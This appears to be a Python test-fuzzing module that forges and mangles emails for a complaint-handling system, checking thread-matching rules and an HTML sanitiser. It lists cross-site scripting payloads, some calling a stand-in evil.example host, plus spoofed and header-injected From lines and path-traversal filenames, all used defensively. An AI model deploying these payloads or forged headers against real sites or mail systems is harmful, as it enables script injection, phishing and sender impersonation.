"""Mails that somebody forged or that got mangled on the way, and what may become of each.

A part of `mailroom.py`, which sets Django up first. What a mail may join is known when it is made: only the complaint
whose token or Message-ID stands where answers carry it, and only when it comes from where that mail of ours went.
"""

import random
import string
from base64 import b64encode
from dataclasses import dataclass
from html.parser import HTMLParser
from urllib.parse import urlsplit

from amends.complaints.models import Complaint
from amends.correspondence.models import Delivery
from amends.rendering.html import ALLOWED, clean_html, plain_text_as_html

PIECES = (
    b"=?utf-8?B?",
    b"=?x?Q?=",
    b"\x00",
    b"\r",
    b"\n\n",
    b"--b\n",
    b"From: <>\n",
    b"<script>",
    b"\xff\xfe",
    b"Content-Type: multipart/mixed; boundary=b\n",
    b"Content-Transfer-Encoding: base64\n",
    b"Content-Type: message/rfc822\n\n",
    b"Content-Type: text/html; charset=utf-7\n\n",
    b"filename*=utf-8''%00%ff\n",
    b"To: complaints+",
    b"Message-ID: <>\n",
    b"Content-Disposition: attachment; filename=../../x\n",
    b"In-Reply-To: <",
    b"&#x0;<a href=javascript:x>",
)

#: What must never reach a page as markup.
HOSTILE_MARKUP = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<svg><animate onbegin=alert(1) attributeName=x dur="1s">',
    "<a href='java&#10;script:alert(1)'>click</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    "<style>@import 'http://evil.example/x.css';</style>",
    '<div style="position:fixed;inset:0;background:url(http://evil.example)">x</div>',
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<form action=http://evil.example><input name=code><button>Go</button></form>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<table background=http://evil.example/x><td onclick=alert(1)>x",
    "<base href=http://evil.example><meta http-equiv=refresh content='0;url=http://evil.example'>",
    "<!--><img src=x onerror=alert(1)>-->",
    '<a href="https://evil.example" target=_top ping=http://evil.example>https://larkhaven.example</a>',
)

_WORDS = (
    *("water", "bill", "meter", "street", "letter", "nobody", "answered", "again", "cold", "Tuesday", "pipe"),
    *("engineer", "promised", "refund", "waiting", "telephone", "garden", "pressure", "brown", "child", "broken"),
    *("şikâyet", "vesi", "katki", "öösel", "fatura", "yanlış", "kiri", "tänav", "üç", "gün", "oodanud"),
)
_ALPHABET = "23456789abcdefghjkmnpqrstuvwxyz"
OURS = "larkhaven.example"


@dataclass(frozen=True)
class Secret:
    """What one mail of ours carries: where it went, and by what an answer shows that it knows it."""

    thread: int
    addresses: frozenset[str]
    token: str
    message_id: str

    @classmethod
    def of(cls, delivery: Delivery) -> "Secret":
        """The recipient's address today counts as well as the one that it went to."""
        party = int(delivery.recipient.removeprefix("party-"))
        today = Complaint.objects.get(thread=delivery.thread_id).parties.get(pk=party).email
        known = frozenset({delivery.address.lower(), today.lower()})
        assert delivery.thread_id is not None
        return cls(delivery.thread_id, known, str(delivery.reply_token), delivery.message_id)

    def is_in(self, raw: bytes) -> bool:
        """Whether the bytes hold the token or the Message-ID, and an address that may use them."""
        low = raw.lower()
        has = self.token.encode() in low or self.message_id.lower().encode() in low
        return has and any(each.encode() in low for each in self.addresses)


@dataclass(frozen=True)
class Drawn:
    """A mail. `may_join` names conversations; `must_join` is the one that a plain honest answer belongs to.

    Whoever mangled it knows neither: then the bytes decide.
    """

    raw: bytes
    mark: str
    may_join: frozenset[int] | None = None
    must_join: int | None = None


def mangled(raw: bytes, draw: random.Random, known: list[bytes]) -> bytes:
    """Pieces taken out, put in, doubled and turned."""
    made = bytearray(raw[:20_000])
    for _change in range(draw.randint(1, 8)):
        place = draw.randrange(len(made) + 1)
        match draw.randrange(6):
            case 0:
                made[place:place] = draw.choice(PIECES)
            case 1:
                del made[place : place + draw.randint(1, 200)]
            case 2:
                made[place : place + 1] = bytes([draw.randrange(256)])
            case 3:
                made[place:place] = made[place : place + draw.randint(1, 400)]
            case 4:
                made[:0] = b"In-Reply-To: " + draw.choice(known) + b"\n"
            case _:
                made[:0] = b"To: complaints+" + draw.choice(known).strip(b"<>").split(b"@")[0] + b"@larkhaven.example\n"
    return bytes(made)


class Forger:
    """Draws mails about complaints whose secrets are known; `staff` are mails of ours to members of staff."""

    def __init__(self, draw: random.Random, corpus: list[bytes], secrets: list[Secret], staff: list[str]) -> None:
        self.draw, self.corpus, self.secrets, self.staff = draw, corpus, secrets, staff
        self.known = [each.token.encode() for each in secrets] + [each.message_id.encode() for each in secrets]
        self.known += [each.encode() for each in staff] + [b"<x@y.example>"]

    def next(self, number: int) -> Drawn:
        """The next mail."""
        mark = f"mark{number}x"
        chance = self.draw.random()
        if chance < 0.25:
            return Drawn(mangled(self.draw.choice(self.corpus), self.draw, self.known), mark)
        made = self._made(mark)
        if chance < 0.45:
            return Drawn(mangled(made.raw, self.draw, self.known), mark)
        return made

    def _made(self, mark: str) -> Drawn:
        mine, other = self.draw.sample(self.secrets, 2)
        while other.thread == mine.thread:
            other = self.draw.choice(self.secrets)
        me, them = self.draw.choice(sorted(mine.addresses)), self.draw.choice(sorted(other.addresses))
        sender, says = self._sender(me, them)
        lines, shown, is_plain = self._lines(mine, other)
        may = frozenset(each.thread for each in shown if says in each.addresses)
        must = mine.thread if may and is_plain and sender in {me, f"Somebody <{me}>", me.upper()} else None
        head = [f"From: {sender}", f"Message-ID: <{mark}@mail.example>", *lines]
        return Drawn(self._body(head, mark), mark, may, must)

    def _sender(self, me: str, them: str) -> tuple[str, str]:
        """A From, and the address that it says and no other."""
        eve = "eve@evil.example"
        return self.draw.choice(
            [
                *[(me, me), (f"Somebody <{me}>", me), (me.upper(), me), (f'"A, B" <{me}>', me)] * 3,
                (f"{me} <{me}>", me),
                (f"{me} (a comment)", me),
                (eve, ""),
                (them, them),
                (f'"{me}" <{eve}>', ""),
                (f"{me} <{eve}>", ""),
                (f"=?utf-8?B?{b64encode(me.encode()).decode()}?= <{eve}>", ""),
                (f"{me}, {eve}", ""),
                (f"{me}, Eve <{eve}>", ""),
                (f"{eve}, Somebody <{me}>", ""),
                (f"Somebody <{me}>, {eve}", ""),
                (f"<{eve}> <{me}>", ""),
                (f"{eve}\nFrom: {me}", ""),
                (f"{me}\nFrom: {eve}", ""),
                (f"{eve}\nSender: {me}\nReply-To: {me}", ""),
                (f"{me}.evil.example", ""),
                (f"x{me}", ""),
                (me.replace("e", "е"), ""),
                (me.replace("@", "+x@"), ""),
                (me.replace("@", "@@"), ""),
                (f"({me}) {eve}", ""),
                (f"<{me}@evil.example>", ""),
                (f"<@evil.example:{me}>", ""),
                ("", ""),
                (f"liis@{OURS}", ""),
                (f"complaints@{OURS}", ""),
            ]
        )

    def _lines(self, mine: Secret, other: Secret) -> tuple[list[str], set[Secret], bool]:
        """Lines with something like a token; whose they show rightly, and whether in the plainest way."""
        token, foreign, guess = mine.token, other.token, self._guess()
        turned = "".join(self.draw.choice((one.upper(), one)) for one in token)
        cut = token[: -self.draw.randint(1, 4)]
        almost = token[:-1] + self.draw.choice(_ALPHABET.replace(token[-1], ""))
        by_address = self.draw.choice(("Delivered-To", "X-Original-To", "Envelope-To", "Cc"))
        us, plain = f"To: complaints@{OURS}", [f"To: complaints+{token}@{OURS}"]
        two_ways = [us, f"{by_address}: complaints+{foreign}@{OURS}", f"Cc: complaints+{token}@{OURS}"]
        return self.draw.choice(
            [
                *[(plain, {mine}, True)] * 8,
                ([f"To: complaints+{turned}@{OURS}"], {mine}, True),
                ([f"To: Complaints+{token}@{OURS.upper()}"], {mine}, True),
                ([us, f"In-Reply-To: {mine.message_id}"], {mine}, True),
                ([us, f"References: <a@b.example>\n {mine.message_id} <c@d.example>"], {mine}, True),
                ([us, f"{by_address}: complaints+{token}@{OURS}"], {mine}, True),
                ([f"To: <complaints+{guess}@{OURS}>, <complaints+{token}@{OURS}>"], {mine}, False),
                ([f"To: complaints+{foreign}@{OURS}, complaints+{token}@{OURS}"], {mine, other}, False),
                ([*plain, f"In-Reply-To: {other.message_id}"], {mine, other}, False),
                ([us, f"References: {mine.message_id} {other.message_id}"], {mine, other}, False),
                (two_ways, {mine, other}, False),
                ([f"To: complaints+{foreign}@{OURS}"], {other}, False),
                *(([f"To: complaints+{each}@{OURS}"], set(), False) for each in (guess, cut, almost, token * 2)),
                ([f"To: complaints+{token}@evil.example"], set(), False),
                ([f"To: {token}@{OURS}"], set(), False),
                ([f"To: complaints-{token}@{OURS}"], set(), False),
                ([f"To: complaints+{token}x@{OURS}"], set(), False),
                ([us, f"Subject: [{token}] complaints+{token}@{OURS}"], set(), False),
                ([us, f"X-Reply-Token: {token}", f"Reply-To: complaints+{token}@{OURS}"], set(), False),
                ([us, f"Bcc: complaints+{token}@{OURS}"], set(), False),
                ([us, f"In-Reply-To: {other.message_id}"], {other}, False),
                ([us, f"In-Reply-To: {mine.message_id.strip('<>')}"], set(), False),
                ([us, f"References: {mine.message_id[:-8]} {mine.message_id[8:]}"], set(), False),
                ([us, f"In-Reply-To: <{token}@{OURS}>"], set(), False),
                ([us, f"References: {' '.join(self.staff[:3]) or '<>'}"], set(), False),
                ([us, "", f"To: complaints+{token}@{OURS}"], set(), False),
                ([us], set(), False),
            ]
        )

    def _guess(self) -> str:
        return "".join(self.draw.choice(_ALPHABET) for _sign in range(len(self.secrets[0].token)))

    def _body(self, head: list[str], mark: str) -> bytes:
        draw, secret = self.draw, self.draw.choice(self.secrets)
        text = f"{mark} {' '.join(draw.choices(_WORDS, k=draw.randint(3, 40)))}"
        subject = [] if any(line.startswith("Subject:") for line in head) else [f"Subject: {draw.choice(_WORDS)}"]
        head = [*subject, *head] if "" in head else [*head, *subject]
        if draw.random() < 0.3:  # the secrets of others in the text, and a quotation
            text += f"\ncomplaints+{secret.token}@{OURS} {secret.message_id}\n\n> {secret.token}\n"
        markup = "".join(draw.choices(HOSTILE_MARKUP, k=draw.randint(1, 4)))
        match draw.randrange(5):
            case 0:
                kind, body = "text/html; charset=utf-8", f"<p>{text}</p>{markup}"
            case 1:
                kind = "multipart/alternative; boundary=b"
                rich = f"--b\nContent-Type: text/html; charset=utf-8\n\n<p>{text}</p>{markup}\n"
                body = f"--b\nContent-Type: text/plain; charset=utf-8\n\n{text}\n{rich}--b--\n"
            case _:
                kind, body = "text/plain; charset=utf-8", f"{text}\n{markup if draw.random() < 0.3 else ''}"
        head = [*head, f"Content-Type: {kind}"] if "" not in head else [f"Content-Type: {kind}", *head]
        return "\n".join([*head, "", body]).encode("utf-8", "surrogateescape")


class _Looking(HTMLParser):
    """Finds markup that a page must not get from outside."""

    def __init__(self) -> None:
        super().__init__()
        self.wrong: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in ALLOWED:
            self.wrong.append(tag)
        for name, value in attrs:
            if name not in {"href", "rel", "dir", "lang", "title", "colspan", "rowspan"}:
                self.wrong.append(f"{tag} {name}")
            elif name == "href" and urlsplit("".join((value or "").split())).scheme not in _SCHEMES:
                self.wrong.append(f"{tag} {value}")


_SCHEMES = {"http", "https", "mailto", "tel"}


def unsafe_in(*texts: str) -> list[str]:
    """What is wrong with these after they were cleaned."""
    wrong = []
    for text in texts:
        for cleaned in (str(clean_html(text)), str(plain_text_as_html(text))):
            looking = _Looking()
            looking.feed(cleaned)
            looking.close()
            wrong += looking.wrong
    return wrong


def marks_in(text: str) -> set[str]:
    """Which made mails a text is from."""
    words = ("".join(one if one in string.ascii_lowercase + string.digits else " " for one in text)).split()
    return {word for word in words if word.startswith("mark") and word.endswith("x") and word[4:-1].isdigit()}
